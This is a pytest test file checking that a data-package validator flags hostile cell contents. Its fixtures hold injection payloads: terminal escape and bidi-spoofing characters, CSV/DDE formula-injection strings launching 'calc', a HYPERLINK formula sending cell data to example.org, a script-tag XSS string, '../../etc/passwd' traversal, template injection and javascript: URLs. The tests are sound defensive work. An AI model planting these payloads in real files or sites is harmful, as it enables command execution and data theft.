"""Hostile text in any column is found and named; the command neither breaks down nor lets it pass."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from gongyak.cli import validate_command
from site_hostile import bound, free, resources, rewrite

# What is never legal in a cell of text, and the rules that must find it, whatever else does.
KINDS = {
    "characters": (
        "가\x1b[2J\x00나\u202egnp.exe\u2066\u2069\u200b\uf0a7\u1100\u1161\uff11",
        {"control-character", "direction", "invisible", "unreadable", "decomposed", "odd-digit"},
    ),
    "line break": ("가\r\n나", {"line-break"}),
    "formula": ('=HYPERLINK("http://example.org?"&A1,"x")', {"formula"}),
    "formula by plus": ("+cmd|' /C calc'!A0", {"formula"}),
    "formula by minus": ("-2+3+cmd|' /C calc'!A0", {"formula"}),
    "formula by at": ("@SUM(1+1)*cmd|' /C calc'!A0", {"formula"}),
    "long": ("가" * 40_000, {"long-cell"}),
}
Validate = Callable[..., list[dict]]
# Text that may stand in a column of free text, but never where a code, a key or an address belongs.
MISPLACED = ("<script>window.pwned=1</script>", "../../etc/passwd", "{{ 7*7 }}")


@pytest.fixture
def validate(capsys: pytest.CaptureFixture[str]) -> Validate:
    """The findings of the command, which ends with ``status`` and breaks down nowhere."""

    def findings(root: Path, status: int = 1) -> list[dict]:
        assert validate_command([str(root), "--format", "json"]) == status
        return json.loads(capsys.readouterr().out)["findings"]

    return findings


def _first(columns: set[tuple[str, str]], text: str):
    """A change that puts ``text`` into the first cell of the columns."""
    return lambda table, column, cells: [text, *cells[1:]] if (table, column) in columns else cells


def _places(findings: list[dict], rule: str = "") -> set[tuple[str, str]]:
    return {(Path(each["path"]).stem, each["column"]) for each in findings if rule in ("", each["rule"])}


@pytest.mark.parametrize("kind", KINDS)
def test_text_that_is_never_legal_is_found_in_every_column(tiny: Path, validate: Validate, kind: str) -> None:
    text, rules = KINDS[kind]
    columns = {(table["name"], name) for table in resources(tiny) for name in free(table)}
    assert len(columns) == 224
    rewrite(tiny, _first(columns, text))
    findings = validate(tiny)
    assert [(rule, missed) for rule in rules if (missed := columns - _places(findings, rule))] == []


@pytest.mark.parametrize("text", MISPLACED)
def test_text_in_the_place_of_a_code_is_found_in_every_column(tiny: Path, validate: Validate, text: str) -> None:
    columns = {(table["name"], name) for table in resources(tiny) for name in bound(table)}
    assert len(columns) == 167
    # In each column another text, or a key and what refers to it would still agree.
    rewrite(tiny, lambda of, name, cells: [f"{text}{of}.{name}", *cells[1:]] if (of, name) in columns else cells)
    assert columns - _places(validate(tiny)) == set()


def test_an_address_that_is_script_is_found(tiny: Path, validate: Validate) -> None:
    columns = {("documents", "url"), ("documents", "archived_url"), ("governments", "website")}
    for text in (
        "javascript:window.pwned=1",
        "JaVaScRiPt://x.example/%0awindow.pwned=1",
        "data:text/html,x",
        "//x.example",
    ):
        rewrite(tiny, _first(columns, text))
        assert columns - _places(validate(tiny)) == set()


def test_a_cell_of_a_megabyte_is_found(tiny: Path, validate: Validate) -> None:
    columns = {
        ("items", "text"),
        ("works", "title"),
        ("notes", "note"),
        ("glossary", "term"),
        ("code_fund", "label_ko"),
    }
    rewrite(tiny, _first(columns, "가나다라 " * 80_000))
    assert columns <= _places(validate(tiny), "long-cell")


def test_a_file_of_nothing_but_noise_is_refused_in_words(tiny: Path, validate: Validate) -> None:
    noise = bytes(range(256)) * 400
    for table in resources(tiny):
        (tiny / table["path"]).write_bytes(noise)
    assert {each["rule"] for each in validate(tiny, status=2)} == {"encoding"}
